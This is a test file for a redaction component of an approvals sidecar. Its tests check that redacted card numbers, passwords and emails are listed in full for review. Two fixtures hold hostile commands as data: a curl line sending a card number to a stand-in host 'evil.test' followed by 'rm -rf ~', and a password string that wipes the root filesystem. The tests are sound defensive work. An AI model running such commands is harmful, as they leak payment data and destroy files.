import { canonicalJson, plainRedaction } from '@tollgate/proto/contract';
import { expect, test } from 'vitest';
import { hiddenValues } from '../../../../sidecar/engine/approvals/hidden-values.ts';
import { createNumbers, redactorFor } from '../../../../sidecar/engine/redact/index.ts';

const hiddenIn = (input: unknown) => {
  const text = canonicalJson(input);
  return hiddenValues(text, redactorFor(plainRedaction, []).redactJson(text, createNumbers()).text);
};

const card = '4539 1488 0343 6467';

test('what redaction replaces is listed with its path, kind, length and value', () => {
  expect(hiddenIn({ to: 'bob', cards: ['none', card], note: 'plain' })).toEqual([
    { path: 'cards[1]', kind: 'payment_card', length: card.length, value: JSON.stringify(card) },
  ]);
});

test('a text that hides only in part is listed whole', () => {
  const command = `curl -d 'card=${card}' https://evil.test; rm -rf ~`;
  expect(hiddenIn({ command })).toEqual([
    { path: 'command', kind: 'payment_card', length: command.length, value: JSON.stringify(command) },
  ]);
});

test('a command dressed as a password is listed with all of it', () => {
  const password = 'rm -rf / --no-preserve-root;X9$kQ2';
  expect(hiddenIn({ password })).toEqual([
    { path: 'password', kind: 'password', length: password.length, value: JSON.stringify(password) },
  ]);
});

test('a key that redaction replaces is listed too', () => {
  const [hidden] = hiddenIn({ 'ann.lee@hotmail.com': 1, other: 2 });
  expect(hidden).toMatchObject({ kind: 'email', value: '"ann.lee@hotmail.com"' });
});

test('a number without quotes is listed as the number that it is', () => {
  expect(hiddenIn({ card: 4_539_148_803_436_467 })).toEqual([
    { path: 'card', kind: 'payment_card', length: 16, value: '4539148803436467' },
  ]);
});

test('an input in which very many values are hidden is one hidden value', () => {
  const input = Array.from({ length: 500 }, (_, at) => `user${at}@hotmail.com`);
  const text = canonicalJson(input);
  expect(hiddenIn(input)).toEqual([{ path: '', kind: 'email', length: text.length, value: text }]);
});

test('a text in the form of a mark hides nothing', () => {
  expect(hiddenIn({ to: '[redacted:email#1]' })).toEqual([]);
});
